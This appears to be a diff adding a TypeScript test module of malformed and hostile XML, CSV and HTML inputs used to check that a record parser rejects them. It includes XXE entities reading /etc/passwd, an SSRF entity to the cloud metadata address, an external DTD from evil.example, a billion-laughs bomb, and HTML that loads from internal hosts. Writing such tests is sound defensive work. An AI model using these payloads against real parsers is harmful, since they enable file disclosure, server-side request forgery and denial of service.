@@ -1,0 +1,259 @@
+import { verbatim } from './answer-format.js';
+import { type Expectation, type Misbehaviour } from './misbehaviour.js';
+import { allOf, csv, has, html, one, text, xml } from './corrupt-records.js';
+
+const unsafe: Expectation = { ends: 'fails', codes: ['SOURCE_UNSAFE'] };
+const broken = [
+  'SOURCE_CHANGED',
+  'SOURCE_TRUNCATED',
+  'SOURCE_UNSAFE',
+  'SOURCE_NOT_JSON',
+  'SOURCE_EMPTY',
+  'SOURCE_TOO_LARGE',
+  'SOURCE_INCOMPLETE',
+];
+const fails: Expectation = { ends: 'fails', codes: broken };
+const may: Expectation = { ends: 'may complete', codes: broken };
+
+/** A document type in front of the outermost element, and something else in place of a title. */
+function withDoctype(name: string, declarations: string, title: string): Misbehaviour {
+  return {
+    name,
+    appliesTo: allOf(xml, has('title')),
+    apply: text((body, { edit }) => {
+      const changed = edit(body, ([first, ...rest]) =>
+        first === undefined ? [] : [first.set('title', verbatim(title)), ...rest],
+      );
+      return changed.replace(/<(?![?!])(?=\w)/, `<!DOCTYPE x [${declarations}]>\n<`);
+    }),
+    expects: unsafe,
+  };
+}
+
+const billionLaughs = Array.from(
+  { length: 10 },
+  (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`,
+).join('');
+
+const xmlForms: readonly Misbehaviour[] = [
+  withDoctype('declares a document type', '', 'Road Salt'),
+  withDoctype('reads a file of its reader', '<!ENTITY secret SYSTEM "file:///etc/passwd">', '&secret;'),
+  withDoctype(
+    'makes its reader ask another host',
+    '<!ENTITY other SYSTEM "http://169.254.169.254/latest/meta-data/">',
+    '&other;',
+  ),
+  withDoctype(
+    'makes its reader fetch declarations',
+    '<!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;',
+    'Road Salt',
+  ),
+  withDoctype('laughs a billion times', `<!ENTITY l0 "ha">${billionLaughs}`, '&l10;'),
+  withDoctype('repeats one long text', `<!ENTITY long "${'a'.repeat(100_000)}">`, '&long;'.repeat(1000)),
+  {
+    name: 'has an entity that nobody declared',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('Road &nbsp;Salt &unknown; R&D'))),
+    expects: may,
+  },
+  {
+    name: 'has a character that no document may have',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('Road \u0008Salt &#0; &#x1F;'))),
+    expects: may,
+  },
+  {
+    name: 'never closes a section of data',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('<![CDATA[Road Salt'))),
+    expects: fails,
+  },
+  {
+    name: 'never closes a comment',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('<!-- Road Salt'))),
+    expects: fails,
+  },
+  {
+    name: 'closes what it never opened',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('Road</title></b>Salt'))),
+    expects: fails,
+  },
+  {
+    name: 'nests elements ten thousand deep',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) => record.set('title', verbatim('<b>'.repeat(10_000) + '</b>'.repeat(10_000)))),
+    expects: may,
+  },
+  {
+    name: 'has an element with a hundred thousand attributes',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) =>
+      record.set('title', verbatim(`<b ${Array.from({ length: 100_000 }, (_, index) => `a${index}=""`).join(' ')}/>`)),
+    ),
+    expects: may,
+  },
+  {
+    name: 'includes another document',
+    appliesTo: allOf(xml, has('title')),
+    apply: one((record) =>
+      record.set(
+        'title',
+        verbatim('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
+      ),
+    ),
+    expects: may,
+  },
+  {
+    name: 'says that it is written in another charset',
+    appliesTo: xml,
+    apply: text((body) => body.replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="UTF-7"?>')),
+    expects: may,
+  },
+];
+
+const csvForms: readonly Misbehaviour[] = [
+  {
+    name: 'never closes a quote',
+    appliesTo: allOf(csv, has('title')),
+    apply: one((record) => record.set('title', verbatim('"Road Salt'))),
+    expects: may,
+  },
+  {
+    name: 'has quotes in the middle of a cell',
+    appliesTo: allOf(csv, has('title')),
+    apply: one((record) => record.set('title', verbatim('12" pipe'))),
+    expects: may,
+  },
+  {
+    name: 'has a comma that no quote protects',
+    appliesTo: allOf(csv, has('title')),
+    apply: one((record) => record.set('title', verbatim('Road Salt, Sand'))),
+    expects: may,
+  },
+  {
+    name: 'has a line break that no quote protects',
+    appliesTo: allOf(csv, has('title')),
+    apply: one((record) => record.set('title', verbatim('Road\r\nSalt'))),
+    expects: may,
+  },
+  {
+    name: 'separates its cells otherwise',
+    appliesTo: csv,
+    apply: text((body) => body.replaceAll(',', ';')),
+    expects: fails,
+  },
+  {
+    name: 'has a column more',
+    appliesTo: csv,
+    apply: text((body) => body.replace('NoticeId,', 'NoticeId,NewColumn,')),
+    expects: fails,
+  },
+  { name: 'has a column less', appliesTo: csv, apply: text((body) => body.replace('Title,', '')), expects: fails },
+  {
+    name: 'has its columns in another order',
+    appliesTo: csv,
+    apply: text((body) => body.replace('NoticeId,Title', 'Title,NoticeId')),
+    expects: fails,
+  },
+  {
+    name: 'has no line with the names of its columns',
+    appliesTo: csv,
+    apply: text((body) => body.slice(body.indexOf('\n') + 1)),
+    expects: fails,
+  },
+  {
+    name: 'has nothing but the names of its columns',
+    appliesTo: csv,
+    apply: text((body) => body.slice(0, body.indexOf('\n') + 1)),
+    expects: fails,
+  },
+  {
+    name: 'ends its lines otherwise',
+    appliesTo: csv,
+    apply: text((body) => body.replaceAll('\r\n', '\n')),
+    expects: { ends: 'completes' },
+  },
+  {
+    name: 'ends its lines as long ago',
+    appliesTo: csv,
+    apply: text((body) => body.replaceAll('\r\n', '\r')),
+    expects: fails,
+  },
+  {
+    name: 'has empty lines',
+    appliesTo: csv,
+    apply: text((body) => body.replaceAll('\r\n', '\r\n\r\n')),
+    expects: { ends: 'completes' },
+  },
+];
+
+const htmlForms: readonly Misbehaviour[] = [
+  {
+    name: 'shows its records with a script',
+    appliesTo: html,
+    apply: text((body) => body.replace(/<main>[^]*<\/main>/, '<main><div id="app"></div></main>')),
+    expects: fails,
+  },
+  {
+    name: 'hides its records in a comment',
+    appliesTo: html,
+    apply: text((body) => body.replace(/<main>[^]*<\/main>/, (main) => `<!-- ${main} -->`)),
+    expects: fails,
+  },
+  {
+    name: 'leads on without a redirect',
+    appliesTo: html,
+    apply: text((body) =>
+      body.replace(
+        '<head>',
+        '<head><meta http-equiv="refresh" content="0;url=http://169.254.169.254/"><base href="file:///etc/">',
+      ),
+    ),
+    expects: may,
+  },
+  {
+    name: 'loads things from everywhere',
+    appliesTo: html,
+    apply: text((body) =>
+      body.replace(
+        '<main>',
+        '<main><iframe src="http://10.0.0.1/"></iframe><img src="http://10.0.0.1/x.png"><script src="http://10.0.0.1/x.js"></script><object data="file:///etc/passwd"></object>',
+      ),
+    ),
+    expects: may,
+  },
+  {
+    name: 'nests its page a hundred thousand deep',
+    appliesTo: html,
+    apply: text((body) => body.replace('<main>', `<main>${'<div>'.repeat(100_000)}`)),
+    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
+  },
+  {
+    name: 'has a page of two hundred thousand elements',
+    appliesTo: html,
+    apply: text((body) => body.replace('<main>', `<main>${'<p>x</p>'.repeat(200_000)}`)),
+    expects: { ends: 'fails', codes: ['SOURCE_TOO_LARGE'] },
+  },
+  {
+    name: 'closes none of its elements',
+    appliesTo: html,
+    apply: text((body) => body.replaceAll(/<\/(?!body|html|main|script|style|title)[a-z]+>/g, '')),
+    expects: may,
+  },
+  {
+    name: 'prints a form for signing in',
+    appliesTo: html,
+    apply: text((body) =>
+      body.replace(
+        /<main>[^]*<\/main>/,
+        '<main><form action="/login"><input name="user"><input type="password"></form></main>',
+      ),
+    ),
+    expects: fails,
+  },
+];
+
+/** What only XML, only tables or only pages can have. */
+export const markup: readonly Misbehaviour[] = [...xmlForms, ...csvForms, ...htmlForms];
